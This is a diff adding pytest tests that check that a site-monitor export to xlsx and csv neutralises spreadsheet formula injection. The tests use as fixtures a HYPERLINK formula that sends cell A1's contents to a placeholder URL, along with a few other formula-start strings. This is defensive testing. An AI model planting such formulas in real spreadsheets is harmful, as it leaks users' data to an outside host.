@@ -128,3 +128,46 @@ def test_an_unwritable_output_is_a_dutch_error(site, tmp_path):
     with pytest.raises(CommandError, match="Kan niet schrijven naar"):
         run("--site", "HLV", "--quarter", "2025-Q1", "--format", "xlsx",
             "--output", str(tmp_path / "bestaat-niet" / "m.xlsx"))
+
+
+# ------------------------------------------------------------------------------------- formula injection (issue 11)
+
+LEAK = '=HYPERLINK("http://x?leak="&A1,"Klik hier")'
+
+
+@pytest.fixture
+def hostile(data, site):
+    """Experience texts that a spreadsheet would run as a formula, entered through the monitor's service."""
+    from tandem.monitor.services import experience_record
+
+    for question, text in (("G", LEAK), ("H", "+1+1"), ("I", "-2+3"), ("K", "@SUM(A1:A2)")):
+        experience_record(actor=None, site=site, quarter="2025-Q1", question=question, text=text)
+
+
+@pytest.mark.parametrize("cbs", [False, True])
+def test_no_experience_becomes_a_formula_in_the_xlsx(hostile, tmp_path, cbs):
+    path = tmp_path / "monitor.xlsx"
+    run("--site", "HLV", "--quarter", "2025-Q1", "--format", "xlsx", "--output", str(path),
+        *(["--disclosure", "cbs"] if cbs else []))
+    book = openpyxl.load_workbook(path)  # not read-only: formulas would show as data_type "f"
+    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    texts = [cell.value for cell in book["Ervaringen"]["B"]]
+    assert "'" + LEAK in texts and "'+1+1" in texts and "'-2+3" in texts and "'@SUM(A1:A2)" in texts
+    assert not [v for v in texts if isinstance(v, str) and v.startswith(("=", "+", "-", "@"))]
+
+
+@pytest.mark.parametrize("cbs", [False, True])
+def test_no_experience_becomes_a_formula_in_the_csv(hostile, cbs):
+    out = run("--site", "HLV", "--quarter", "2025-Q1", "--format", "csv", *(["--disclosure", "cbs"] if cbs else []))
+    cells = [cell for row in csv.reader(io.StringIO(out)) for cell in row]
+    assert "'" + LEAK in cells and "'@SUM(A1:A2)" in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
+def test_safe_cell_neutralises_every_formula_start():
+    from tandem.core.cells import safe_cell
+
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert safe_cell(start + "1") == "'" + start + "1"
+    assert safe_cell("Gewoon een zin.") == "Gewoon een zin." and safe_cell(-3) == -3 and safe_cell(None) is None
